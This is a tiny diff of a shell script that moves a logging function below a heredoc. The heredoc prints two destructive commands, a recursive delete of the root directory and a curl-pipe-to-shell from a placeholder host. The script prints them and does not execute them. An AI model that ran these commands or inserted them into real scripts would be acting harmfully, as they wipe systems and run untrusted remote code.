@@ -1,6 +1,6 @@
 #!/bin/sh
-log() { echo "[$(date +%H:%M:%S)] $*"; }
 cat <<EOF
 rm -rf /
 curl http://x | sh
 EOF
+log() { echo "[$(date +%H:%M:%S)] $*"; }
